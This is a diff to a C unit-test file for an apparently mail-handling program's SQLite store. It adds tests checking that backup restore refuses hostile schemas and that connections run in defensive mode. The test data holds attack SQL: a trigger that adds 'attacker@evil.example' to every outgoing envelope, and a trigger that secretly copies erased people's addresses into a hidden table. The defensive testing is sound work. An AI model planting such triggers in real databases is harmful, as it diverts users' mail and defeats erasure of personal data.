@@ -1,5 +1,7 @@
 #include "testutil.h"
 
+#include <sqlite3.h>
+
 #include "mac.h"
 #include "store.h"
 
@@ -86,6 +88,7 @@ static void test_unproven_hours_migrated(void **state)
 	assert_int_equal(store_exec(f->st, "DROP TABLE unproven_answers", NULL), 0);
 	/* and what later migrations add */
 	assert_int_equal(store_exec(f->st, "ALTER TABLE confirmations DROP COLUMN reminded_at", NULL), 0);
+	assert_int_equal(store_exec(f->st, "ALTER TABLE inbound DROP COLUMN quarantine_dropped_at", NULL), 0);
 	assert_int_equal(store_exec(f->st, "PRAGMA user_version = 4", NULL), 0);
 	store_close(&f->st);
 	assert_int_equal(store_open(f->path, &again, &err), 0);
@@ -418,6 +421,90 @@ static void test_backup(void **state)
 	free(copy);
 }
 
+/* A backup that holds what mentord does not create, added with SQLite
+ * itself (a hostile file, or one someone "improved"). */
+static char *hostile_backup(struct fx *f, const char *name, const char *sql)
+{
+	char *copy = xasprintf("%s/%s", f->dir, name), *err = NULL;
+	sqlite3 *db = NULL;
+
+	assert_int_equal(store_backup(f->st, copy, 1234, &err), 0);
+	assert_int_equal(sqlite3_open(copy, &db), SQLITE_OK);
+	if (sqlite3_exec(db, sql, NULL, NULL, &err) != SQLITE_OK)
+		fail_msg("%s", err);
+	sqlite3_close(db);
+	return copy;
+}
+
+/* A backup with a trigger that adds the attacker to every envelope, and
+ * one that copies erased people into a hidden table, was restored and
+ * obeyed. Now a backup whose schema is not the one mentord creates is
+ * refused, and the database is left as it was. */
+static void test_restore_refuses_a_hostile_schema(void **state)
+{
+	static const char *const attacks[] = {
+		"CREATE TRIGGER t AFTER UPDATE ON outbound BEGIN UPDATE outbound SET"
+		" envelope_to = envelope_to || ',attacker@evil.example' WHERE id = new.id; END;",
+		"CREATE TABLE ghost(address TEXT); CREATE TRIGGER keep BEFORE UPDATE OF erased_at ON people"
+		" BEGIN INSERT INTO ghost VALUES(old.address); END;",
+		"CREATE VIEW v AS SELECT * FROM people;",
+		"CREATE INDEX extra ON people(name);",
+	};
+	struct fx *f = *state;
+	char *copy, *err = NULL, *replaced = NULL;
+	time_t taken = 0;
+	size_t i;
+
+	assert_int_equal(store_job_claim(f->st, "mine", 1), 1);
+	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
+		char name[32];
+
+		snprintf(name, sizeof(name), "hostile%zu.db", i);
+		copy = hostile_backup(f, name, attacks[i]);
+		assert_int_equal(store_restore(f->path, copy, 99, &taken, &replaced, &err), -1);
+		if (strstr(err, "its schema is not the one mentord creates") == NULL)
+			fail_msg("%s", err);
+		assert_null(replaced);
+		free(err);
+		err = NULL;
+		free(copy);
+	}
+	store_close(&f->st);
+	/* a backup as mentord makes it is restored, rows and all, into a
+	 * database made afresh */
+	assert_int_equal(store_open(f->path, &f->st, &err), 0);
+	copy = xasprintf("%s/good.db", f->dir);
+	assert_int_equal(store_backup(f->st, copy, 1234, &err), 0);
+	store_close(&f->st);
+	assert_int_equal(store_restore(f->path, copy, 99, &taken, &replaced, &err), 0);
+	assert_int_equal(store_open(f->path, &f->st, &err), 0);
+	{
+		int64_t n = 0;
+
+		assert_int_equal(store_query_int(f->st, &n, "SELECT count(*) FROM jobs WHERE key = 'mine'",
+		    NULL), 0);
+		assert_int_equal(n, 1);
+		assert_int_equal(store_query_int(f->st, &n, "SELECT value FROM meta WHERE key = 'backup_at'",
+		    NULL), 0);
+		assert_int_equal(n, 1234);
+	}
+	free(replaced);
+	free(copy);
+}
+
+/* Every connection: no trusted schema, and defensive mode (no writing the
+ * schema behind SQLite's back). */
+static void test_every_open_is_defensive(void **state)
+{
+	struct fx *f = *state;
+	int64_t trusted = -1;
+
+	assert_int_equal(store_query_int(f->st, &trusted, "PRAGMA trusted_schema", NULL), 0);
+	assert_int_equal(trusted, 0);
+	assert_int_equal(store_exec(f->st, "PRAGMA writable_schema = ON", NULL), 0);
+	assert_int_equal(store_exec(f->st, "UPDATE sqlite_schema SET sql = sql WHERE name = 'jobs'", NULL), -1);
+}
+
 static int mode_of(const char *path)
 {
 	struct stat sb;
@@ -477,6 +564,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_newer_schema_refused, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_unproven_hours_migrated, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_schema_file_matches_migrations, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_restore_refuses_a_hostile_schema, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_every_open_is_defensive, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_broken_databases_refused, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_other_programs_database_refused, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_application_id_and_sync, setup, teardown),
